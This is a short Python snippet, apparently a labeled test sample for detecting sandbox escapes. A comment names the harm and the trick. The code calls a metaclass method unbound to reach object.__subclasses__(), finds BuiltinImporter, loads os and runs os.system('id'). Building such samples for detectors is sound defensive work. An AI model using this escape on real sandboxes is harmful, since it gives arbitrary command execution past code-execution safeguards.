# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: metaclass instance method cls.__subclasses__() called unbound as Meta.plugins(object)
class Meta(type):
    def plugins(cls):
        return cls.__subclasses__()


class Base(metaclass=Meta):
    pass


for c in Meta.plugins(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
